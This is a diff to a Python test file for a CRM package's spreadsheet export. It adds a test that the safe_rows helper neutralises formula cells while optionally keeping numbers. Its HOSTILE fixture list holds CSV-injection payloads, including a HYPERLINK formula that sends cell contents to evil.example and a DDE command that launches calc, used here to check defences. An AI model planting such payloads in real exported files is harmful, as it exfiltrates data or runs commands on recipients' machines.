@@ -13,7 +13,14 @@ import pytest
 import crmgov
 from benchmarks.quiz_fixture import quiz_project
 from crmgov.cli import main
-from crmgov.services.sheets import FORMULA_STARTS, csv_text, safe_cell, unneutralise, write_csv
+from crmgov.services.sheets import (
+    FORMULA_STARTS,
+    csv_text,
+    safe_cell,
+    safe_rows,
+    unneutralise,
+    write_csv,
+)
 
 PACKAGE = Path(crmgov.__file__).parent
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
@@ -52,6 +59,20 @@ def test_no_other_csv_writer_in_the_package() -> None:
         if re.search(r"csv\s*\.\s*(writer|DictWriter)\b|\bDictWriter\(", text):
             offenders.append(str(file.relative_to(PACKAGE)))
     assert not offenders, f"write CSV through crmgov.services.sheets.write_csv: {offenders}"
+
+
+def test_safe_rows_keeps_numbers_only_when_asked() -> None:
+    """One writer of formula-safe rows: the XLSX's numbers (the merge list's Score) are
+    safe_rows(numbers=True), every other cell as the CSV writes it."""
+    row = [*HOSTILE, 87.5, 3, -2, True, None, "x"]
+    texts = [safe_cell(c) for c in row]
+    assert list(safe_rows([row])) == [texts]
+    kept = list(safe_rows([row], numbers=True))[0]
+    assert kept[len(HOSTILE):len(HOSTILE) + 3] == [87.5, 3, -2]
+    assert [c for k, c in enumerate(kept) if k not in range(len(HOSTILE), len(HOSTILE) + 3)] \
+        == [t for k, t in enumerate(texts) if k not in range(len(HOSTILE), len(HOSTILE) + 3)]
+    assert list(safe_rows([["=1"]], neutralised=True, numbers=True)) == [
+        [safe_cell("=1", neutralised=True)]]
 
 
 @pytest.mark.parametrize("text", HOSTILE)
